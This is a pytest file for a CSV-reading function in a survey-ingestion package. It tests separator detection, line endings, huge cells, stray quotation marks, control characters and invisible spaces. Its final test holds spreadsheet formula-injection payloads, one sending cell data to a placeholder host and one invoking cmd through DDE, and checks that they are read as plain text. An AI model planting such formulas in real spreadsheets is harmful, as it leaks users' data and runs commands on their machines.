from __future__ import annotations

import csv

import pytest

from netsurvey.errors import SourceError
from netsurvey.ingest.sheets import sheet_of


def test_the_line_by_which_excel_names_its_separator_is_no_row() -> None:
    sheet = sheet_of("forms.csv", b"\xef\xbb\xbfsep=|\r\nref|name\r\n1|Sue, Dave; Ann\r\n")
    assert (sheet.separator, sheet.headers, sheet.header_row) == ("|", ("ref", "name"), 1)
    assert sheet.cells.tolist() == [["1", "Sue, Dave; Ann"]]


def test_decimal_commas_do_not_make_a_separator() -> None:
    assert sheet_of("forms.csv", b"ref;weight\n1;0,5\n2;1,5\n3;2\n").separator == ";"


def test_a_title_above_the_header_does_not_hide_the_separator() -> None:
    sheet = sheet_of("forms.csv", b"Village survey, 2011\nref;name;age\n1;Sue;40\n2;Dave;41\n")
    assert (sheet.separator, sheet.headers, sheet.header_row) == (";", ("ref", "name", "age"), 2)


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_rows_end_as_any_machine_ends_them_and_the_last_may_not(end: str) -> None:
    sheet = sheet_of("forms.csv", end.join(["ref,name", "1,Sue", "2,Dave"]).encode())
    assert sheet.cells.tolist() == [["1", "Sue"], ["2", "Dave"]]


def test_trailing_separators_are_neither_columns_with_answers_nor_cells_too_many() -> None:
    sheet = sheet_of("forms.csv", b"ref,name,,\n1,Sue,,,,\n2,Dave\n")
    assert sheet.headers == ("ref", "name", "", "")
    assert sheet.cells.tolist() == [["1", "Sue", "", ""], ["2", "Dave", "", ""]]
    assert (sheet.overflow, sheet.cell_count) == ((), 8)


def test_a_cell_of_a_million_letters_is_read_and_the_limit_of_csv_left_as_it_was() -> None:
    before = csv.field_size_limit()
    sheet = sheet_of("forms.csv", b"ref,note\n1," + b"x" * 1_000_000 + b"\n")
    assert len(sheet.cells[0, 1]) == 1_000_000
    assert csv.field_size_limit() == before


def test_a_quotation_mark_that_swallows_megabytes_is_told_with_its_row() -> None:
    with pytest.raises(SourceError, match=r"forms.csv, row 3: has a quotation mark that opens a cell"):
        sheet_of("forms.csv", b'ref,note\n1,a\n2,"b\n' + b"3,c\n" * 5_000_000)


def test_two_thousand_columns_are_read() -> None:
    header = ",".join(f"q{n}" for n in range(2000))
    sheet = sheet_of("forms.csv", f"{header}\n{',' * 1999}\n{','.join(['x'] * 2000)}\n".encode())
    assert sheet.cells.shape == (1, 2000)
    assert (sheet.letters(1999), sheet.row(0)) == ("BXX", 3)


def test_one_column_is_a_sheet_too() -> None:
    sheet = sheet_of("forms.csv", b"ref\n1\n2\n")
    assert (sheet.headers, sheet.cells.tolist()) == (("ref",), [["1"], ["2"]])


def test_a_file_of_a_header_alone_has_no_rows() -> None:
    sheet = sheet_of("forms.csv", b"ref,name")
    assert (sheet.headers, sheet.cells.shape, sheet.cell_count) == (("ref", "name"), (0, 2), 0)


@pytest.mark.parametrize(
    ("contents", "says"),
    [
        (
            b"ref,name\n1,Sue\n2,D\x00ve\n",
            r"forms.csv, row 3, column \"B\": holds a character that is no text \(code 0\)",
        ),
        (b"ref,name\n1,Sue\n\x1b", r"row 3, column \"A\": holds a character that is no text \(code 27\)"),
    ],
)
def test_a_character_that_is_no_text_is_told_with_its_place_and_not_its_cell(contents: bytes, says: str) -> None:
    with pytest.raises(SourceError, match=says) as caught:
        sheet_of("forms.csv", contents)
    assert "Sue" not in str(caught.value)


def test_five_million_empty_lines_cost_no_cells() -> None:
    sheet = sheet_of("forms.csv", b"ref,name\n1,Sue\n" + b"\n" * 5_000_000 + b"2,Dave\n")
    assert (sheet.cells.tolist(), sheet.row(1), sheet.cell_count) == ([["1", "Sue"], ["2", "Dave"]], 5_000_003, 4)


def test_spaces_that_cannot_be_seen_are_taken_off_the_ends() -> None:
    sheet = sheet_of("forms.csv", "\ufeffref\u200b,name\u00a0\n1,\u200bSue\u2060\u00a0\n2,\u200b\n".encode())
    assert (sheet.headers, sheet.cells.tolist()) == (("ref", "name"), [["1", "Sue"], ["2", ""]])


def test_what_a_formula_would_do_is_text_here() -> None:
    typed = ['=WEBSERVICE("http://a.example/?"&A1)', "+1", "-2", "@SUM(A1)", "=cmd|'/C calc'!A0"]
    quoted = ",".join(f'"{text.replace(chr(34), chr(34) * 2)}"' for text in typed)
    assert sheet_of("forms.csv", f"a,b,c,d,e\n{quoted}\n".encode()).cells.tolist() == [typed]
